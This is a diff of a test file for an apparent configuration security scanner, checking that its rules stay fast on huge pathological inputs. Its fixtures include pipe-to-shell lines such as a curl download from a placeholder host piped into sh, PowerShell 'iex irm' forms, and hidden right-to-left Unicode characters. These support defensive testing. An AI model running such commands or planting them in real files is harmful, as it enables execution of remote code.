@@ -7,18 +7,22 @@
  * The regexes themselves are timed one by one in regex-budget.test.ts; this is the end-to-end check that the text
  * reaches them the way the issue describes, and that what should still be found is found.
  */
+import { spawnSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { runCli } from './helpers/cli.js';
+import { BIN } from './helpers/cli.js';
 import { tempTrees } from './rule-tester.js';
 
 const BUDGET_MS = 3000;
 const tree = tempTrees();
 
+/** runCli, timed, with room for the megabytes of JSON that thousands of findings make. */
 function timedRun(files: Record<string, string>, args: string[] = ['--format', 'json']) {
   const dir = tree(files);
   const start = performance.now();
-  const result = runCli(args, dir);
-  return { ...result, ms: performance.now() - start, dir };
+  const result = spawnSync(process.execPath, [BIN, ...args], {
+    cwd: dir, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '' }, timeout: 60_000, maxBuffer: 256 << 20,
+  });
+  return { code: result.status, stdout: result.stdout, stderr: result.stderr, ms: performance.now() - start, dir };
 }
 
 /** A server that is reported whatever else happens (an unpinned package), so that each case shows it was scanned. */
@@ -40,6 +44,8 @@ describe('a scan stays linear on the issue 15 repros', () => {
     ['a command of slashes (programName)', { '.mcp.json': mcpJson({ command: `${'/'.repeat(100_000)}x` }) }, ['unpinned-package']],
     ['a URL of slashes (missing-read-only)', { '.mcp.json': mcpJson({ type: 'http', url: `https://mcp.example.com${'/'.repeat(100_000)}x` }) }, ['unpinned-package']],
     ['a docker mount of slashes (dangerous-docker)', { '.mcp.json': mcpJson({ command: 'docker', args: ['run', '-v', `${'/'.repeat(100_000)}x:/data`, 'img'] }) }, ['unpinned-package']],
+    // Found by the fuzzer: hidden-unicode read the key's siblings and the line again for each hidden character.
+    ['an env key of hidden characters repeated (hidden-unicode)', { '.mcp.json': mcpJson({ command: 'node', env: { ['%2F\u202e'.repeat(6_000)]: 'x' } }) }, ['hidden-unicode', 'unpinned-package']],
     ['a permission rule of "mcp__" repeated (auto-approve)', { '.claude/settings.json': JSON.stringify({ permissions: { allow: [`${'mcp__'.repeat(40_000)}\n`, 'mcp__github'] } }) }, ['auto-approve']],
     ['a SKILL.md pipe followed by blank lines (shell-pipe-install)', { '.claude/skills/s/SKILL.md': `${SKILL}curl https://x.example/i.sh |${' \n'.repeat(100_000)}sh\n` }, ['shell-pipe-install']],
     ['a SKILL.md of "irm" downloads with no pipe (PowerShell forms)', { '.claude/skills/s/SKILL.md': `${SKILL}iex ${'irm"'.repeat(1_000_000)}\n` }, ['shell-pipe-install']],
